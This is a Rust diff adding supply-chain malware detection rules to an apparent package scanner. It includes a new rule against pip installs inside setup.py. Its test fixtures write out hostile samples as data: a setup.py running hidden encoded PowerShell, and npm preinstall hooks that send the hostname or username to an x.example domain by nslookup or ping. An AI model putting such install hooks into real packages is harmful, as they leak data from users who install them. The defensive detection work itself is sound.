@@ -30,6 +30,34 @@ pub const CMDCLASS: Rule = pattern(
 .only_install_scripts()
 .refs(REFS);
 
+pub const PIP_INSTALL: Rule = pattern(
+    "heuristic/install-pip-install",
+    F,
+    Severity::Medium,
+    Confidence::Medium,
+    "setup.py installs other packages itself (pip.main, `python -m pip install`)",
+    "Installing packages from setup.py bypasses the resolver and the user's pins; \
+droppers use it to pull their second stage.",
+    Langs::PY,
+    Target::Both,
+    r#"(?:\bfrom\s+pip(?:\._internal)?(?:\.cli\.main)?\s+import\s+main\b|\bpip\.main\s*\(|\bpip\._internal\.(?:cli\.)?main\.main\s*\(|['"]-m['"]\s*,\s*['"]pip['"]\s*,\s*['"]install['"]|\bpip3?\s+install\s+[\w-])"#,
+    &[
+        fires("setup.py", "import pip\npip.main(['install', 'requests'])\n"),
+        fires(
+            "setup.py",
+            "from pip._internal import main\nmain(['install', 'pypiwin32'])\n",
+        ),
+        fires(
+            "setup.py",
+            "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
+        ),
+        quiet("pkg/mod.py", "pip.main(['install', 'x'])"),
+        quiet("setup.py", "install_requires=['pip>=20']"),
+    ],
+)
+.only_install_scripts()
+.refs(REFS);
+
 pub const CMDCLASS_PAYLOAD: Rule = derived(
     "heuristic/install-cmdclass-payload",
     F,
@@ -66,6 +94,14 @@ pub const SETUP_SIDE_EFFECT: Rule = derived(
             "setup.py",
             "def rn():\n    r = urllib2.urlopen(ADD)\nrn()\nsetup(name='x')\n",
         ),
+        fires(
+            "setup.py",
+            "import os, subprocess\nif not os.path.exists('C:/x'):\n    try:\n        subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA==', shell=False)\n    except Exception:\n        pass\nsetup(name='x')\n",
+        ),
+        quiet(
+            "setup.py",
+            "import subprocess\nsetup(\n    name='x',\n    version=subprocess.check_output(['git', 'describe']).decode(),\n)\n",
+        ),
         quiet(
             "setup.py",
             "import subprocess\ndef version():\n    return subprocess.check_output(['git', 'describe']).decode()\nsetup(name='x')\n",
@@ -99,7 +135,7 @@ pub const NPM_SCRIPT_SHELL: Rule = derived(
     F,
     Severity::High,
     Confidence::Medium,
-    "An npm install script fetches, decodes or runs inline/shell code",
+    "An npm install script fetches, decodes or runs inline/shell code, or puts the host/user name in a command",
     "curl|sh, `node -e`, base64 or eval in an install hook is how npm malware starts.",
     &[
         fires(
@@ -110,9 +146,21 @@ pub const NPM_SCRIPT_SHELL: Rule = derived(
             "package/package.json",
             r#"{"name":"x","scripts":{"postinstall":"node -e \"eval(Buffer.from('YQ==','base64').toString())\""}}"#,
         ),
+        fires(
+            "package/package.json",
+            r#"{"name":"x","scripts":{"preinstall":"nslookup `hostname`.x.example"}}"#,
+        ),
+        fires(
+            "package/package.json",
+            r#"{"name":"x","scripts":{"preinstall":"ping -c1 $(whoami).x.example"}}"#,
+        ),
         quiet(
             "package/package.json",
             r#"{"name":"x","scripts":{"postinstall":"node install.js"}}"#,
+        ),
+        quiet(
+            "package/package.json",
+            r#"{"name":"x","scripts":{"install":"node scripts/build.js --host=localhost"}}"#,
         ),
     ],
 )
@@ -144,6 +192,7 @@ pub const BUILD_HOOK: Rule = derived(
 
 pub const RULES: &[Rule] = &[
     CMDCLASS,
+    PIP_INSTALL,
     CMDCLASS_PAYLOAD,
     SETUP_SIDE_EFFECT,
     NPM_SCRIPT,
